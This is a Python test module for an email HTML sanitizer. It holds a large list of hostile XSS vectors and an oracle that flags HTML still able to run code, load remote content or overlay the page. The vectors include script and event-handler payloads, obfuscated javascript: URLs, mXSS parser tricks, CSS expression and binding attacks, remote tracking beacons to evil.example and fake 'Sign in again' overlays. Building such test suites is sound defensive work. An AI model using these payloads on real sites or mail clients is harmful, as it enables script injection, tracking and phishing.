# ruff: noqa: E501 -- one vector per line reads better than wrapped HTML
"""Hostile HTML for the mail sanitizer, and an oracle that says whether sanitized HTML is still active.

The vectors are our own, written after the classes in public XSS cheat sheets and sanitizer test suites: script and
event handlers, URL schemes (obfuscated with entities, whitespace and control characters), foreign content (SVG,
MathML), parser confusions (comments, CDATA, raw-text elements, mXSS), forms and frames, and — what issue 11 found
still active — CSS: url(javascript:), expression(), behaviors and bindings, Opera's -o-link, remote url() beacons in
backgrounds, list styles, content and fonts, @import, CSS escapes and comments that spell url(, and position:fixed
overlays (also through class names a host page styles)."""

from __future__ import annotations

import re
from html.parser import HTMLParser

JS = "javascript:alert(1)"

VECTORS: tuple[tuple[str, str], ...] = (
    # -- scripts and handlers
    ("script", "<script>alert(1)</script>hello"),
    ("script src", '<script src="https://evil.example/x.js"></script>'),
    ("img onerror", "<img src=x onerror=alert(1)>"),
    ("body onload", "<body onload=alert(1)>hi</body>"),
    ("svg onload", "<svg onload=alert(1)>"),
    ("div onmouseover unknown attrs", '<div wow=removeme onmouseover="alert(1)">text</div>'),
    ("input autofocus onfocus", "<input autofocus onfocus=alert(1)>"),
    ("details ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    ("marquee onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("video poster js", f"<video poster={JS}></video>"),
    ("audio source onerror", "<audio><source onerror=alert(1)></audio>"),
    ("handler with slash", "<img/src=x/onerror=alert(1)>"),
    ("handler uppercase", "<IMG SRC=x ONERROR=alert(1)>"),
    ("handler backtick", "<img src=x onerror=`alert(1)`>"),
    # -- URL schemes
    ("a href js", f'<a href="{JS}">x</a>'),
    ("a href js entities", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>'),
    ("a href js hex entities", '<a href="&#x6A;avascript:alert(1)">x</a>'),
    ("a href js tab", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("a href js newline", '<a href="jav\nascript:alert(1)">x</a>'),
    ("a href js leading space", '<a href=" javascript:alert(1)">x</a>'),
    ("a href js control chars", '<a href="\x01java\x03script:alert(1)">x</a>'),
    ("a href js nbsp", '<a href="&#xA0;javascript:alert(1)">x</a>'),
    ("a href js line separator", '<a href="\u2028javascript:alert(1)">x</a>'),
    ("a href vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("a href data html", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    ("img src js", f'<img src="{JS}">'),
    ("img src data svg", '<img src="data:image/svg+xml,<svg onload=alert(1)>">'),
    ("table background js", f'<table background="{JS}"><tr><td>x</td></tr></table>'),
    ("td background js", f'<table><tr><td background="{JS}">x</td></tr></table>'),
    ("img lowsrc", f'<img lowsrc="{JS}">'),
    ("img dynsrc", f'<img dynsrc="{JS}">'),
    ("img srcset", f'<img srcset="{JS} 1x">'),
    ("base href", '<base href="javascript://"><a href="/x">x</a>'),
    ("meta refresh", f'<meta http-equiv="refresh" content="0;url={JS}">'),
    ("link stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("form action js", f'<form action="{JS}"><button>go</button></form>'),
    ("button formaction", f'<form><button formaction="{JS}">go</button></form>'),
    ("isindex", f'<isindex action="{JS}" type=image>'),
    # -- frames, objects and foreign content
    ("iframe", '<iframe src="https://evil.example"></iframe>'),
    ("iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("object data", f'<object data="{JS}"></object>'),
    ("embed src", '<embed src="https://evil.example/x.swf">'),
    ("frameset", "<frameset onload=alert(1)>"),
    ("svg script", "<svg><script>alert(1)</script></svg>"),
    ("svg a xlink", f'<svg><a xlink:href="{JS}"><text>x</text></a></svg>'),
    ("svg animate", f'<svg><animate attributeName="href" values="{JS}"/></svg>'),
    ("math href", f'<math><mi xlink:href="{JS}">x</mi></math>'),
    ("math mglyph style mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("template", "<template><img src=x onerror=alert(1)></template>"),
    ("noscript mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("comment confusion", "<!--<img src=\"--><img src=x onerror=alert(1)//\">"),
    ("cdata confusion", '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(2)//"></svg>'),
    ("textarea confusion", "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>"),
    ("listing mxss", "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>"),
    ("xml stylesheet pi", '<?xml-stylesheet href="javascript:alert(1)"?><root/>'),
    ("style tag", "<style>*{background:url(https://evil.example/p.png)}</style>x"),
    ("style tag import", '<style>@import "https://evil.example/x.css";</style>x'),
    # -- CSS (issue 11)
    ("style url js", f'<div style="background-image:url({JS})">x</div>'),
    ("style url js quoted", f"<div style=\"background:url('{JS}')\">x</div>"),
    ("style expression", '<div style="width:expression(alert(1))">x</div>'),
    ("style expression spaced", '<div style="width: expression (alert(1))">x</div>'),
    ("style expression comment", '<div style="width:expr/**/ession(alert(1))">x</div>'),
    ("style behavior", '<div style="behavior:url(#default#time2)">x</div>'),
    ("style behavior anchorclick", '<a style="behavior:url(#default#AnchorClick);" folder="javascript:alert(1)">x</a>'),
    ("style moz binding", '<div style="-moz-binding:url(https://evil.example/x.xml#xss)">x</div>'),
    ("style o-link", "<a style=\"-o-link:'javascript:alert(1)';-o-link-source:current\">x</a>"),
    ("style remote background beacon", '<div style="background:url(https://evil.example/p.png?u=me)">x</div>'),
    ("style remote background-image", '<td style="background-image:url(&quot;https://evil.example/p.png&quot;)">x</td>'),
    ("style list-style url", '<li style="list-style:url(https://evil.example/p.png)">x</li>'),
    ("style list-style empty url", "<li style=list-style:url() onerror=alert(1)></li>"),
    ("style list-style-image", '<li style="list-style-image:url(https://evil.example/p.png)">x</li>'),
    ("style content url", '<div style="content:url(data:image/svg+xml,%3Csvg/%3E);visibility:hidden">x</div>'),
    ("style cursor url", '<div style="cursor:url(https://evil.example/c.cur),auto">x</div>'),
    ("style border-image", '<div style="border-image:url(https://evil.example/b.png) 30 round">x</div>'),
    ("style mask", '<div style="mask:url(https://evil.example/m.svg)">x</div>'),
    ("style filter", '<div style="filter:url(https://evil.example/f.svg#f)">x</div>'),
    ("style image-set", '<div style="background-image:image-set(&quot;https://evil.example/p.png&quot; 1x)">x</div>'),
    ("style escaped url", '<div style="background:u\\72l(https://evil.example/p.png)">x</div>'),
    ("style escaped property", '<div style="backgr\\6f und:url(https://evil.example/p.png)">x</div>'),
    ("style comment url", '<div style="background:ur/**/l(https://evil.example/p.png)">x</div>'),
    ("style entity url", '<div style="background:&#x75;rl(https://evil.example/p.png)">x</div>'),
    ("style uppercase url", '<div style="BACKGROUND:URL(https://evil.example/p.png)">x</div>'),
    ("style import in value", '<div style="color:red;@import url(https://evil.example/x.css)">x</div>'),
    ("style position fixed overlay", '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">Sign in again</div>'),
    ("style position absolute overlay", '<a style="pointer-events:none;position:absolute;"><a style="position:absolute;" onclick="alert(1);">x</a></a>'),
    ("style transform overlay", '<div style="transform:translate(-500px,-500px)">x</div>'),
    ("style font-face src", '<div style="font-family:x;src:url(https://evil.example/f.woff)">x</div>'),
    ("style var url", '<div style="--x:url(https://evil.example/p.png);background:var(--x)">x</div>'),
    ("style javascript color", f'<div style="color:{JS}">x</div>'),
    ("class overlay hook", '<div class="fixed inset-0 z-50 bg-white">Sign in again</div>'),
    ("vml", '<v:image style="behavior:url(#default#VML)" src="javascript:alert(1)"/>'),
    # -- harmless mail that must keep its look
    ("keeps cid image", '<img src="cid:logo@mail" alt="logo">'),
    ("keeps cid background", "<td style=\"background-image:url('cid:bg@mail');color:#333\">x</td>"),
    ("keeps layout", '<table width="600" style="border-collapse:collapse;margin:0 auto"><tr><td style="padding:8px;font-family:Arial,sans-serif;color:#111">Hi</td></tr></table>'),
    ("keeps link", '<a href="https://example.com/offer" style="color:#06c;text-decoration:underline">offer</a>'),
)  # fmt: skip

DANGEROUS_TAGS = frozenset(
    {
        "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "link", "meta", "base",
        "form", "input", "button", "textarea", "select", "isindex", "svg", "math", "template", "video", "audio",
        "source", "marquee", "keygen",
    }
)  # fmt: skip
URL_ATTRIBUTES = frozenset(
    {"href", "src", "action", "formaction", "background", "poster", "lowsrc", "dynsrc", "srcset", "xlink:href", "data"}
)
SAFE_SCHEMES = ("http:", "https:", "mailto:", "cid:")
_ACTIVE_STYLE = re.compile(
    r"expression|javascript|behavior|binding|-o-link|@import|position|transform|\\|/\*|image-set|var\(|src\s*:", re.I
)
_STYLE_URL = re.compile(r"url\s*\(\s*(['\"]?)([^'\")]*)\1\s*\)", re.I)


class _Oracle(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.findings: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in DANGEROUS_TAGS:
            self.findings.append(f"<{tag}>")
        for name, raw in attrs:
            value = raw or ""
            compact = re.sub(r"[\x00-\x20\u00a0\u2028\u2029]", "", value).lower()
            if name.startswith("on"):
                self.findings.append(f"{tag}[{name}]")
            elif name in URL_ATTRIBUTES and ":" in compact.split("/")[0] and not compact.startswith(SAFE_SCHEMES):
                self.findings.append(f"{tag}[{name}={value[:40]}]")
            elif name == "style":
                if _ACTIVE_STYLE.search(value):
                    self.findings.append(f"{tag}[style={value[:60]}]")
                for _, url in _STYLE_URL.findall(value):
                    if not url.strip().lower().startswith("cid:"):
                        self.findings.append(f"{tag}[style url({url[:40]})]")
            elif name == "class":
                self.findings.append(f"{tag}[class={value[:40]}] (host page CSS hook)")


def active(html: str) -> list[str]:
    """What in sanitized HTML could still run code, load something or lay itself over the page ([] when nothing)."""
    oracle = _Oracle()
    oracle.feed(html)
    oracle.close()
    return oracle.findings
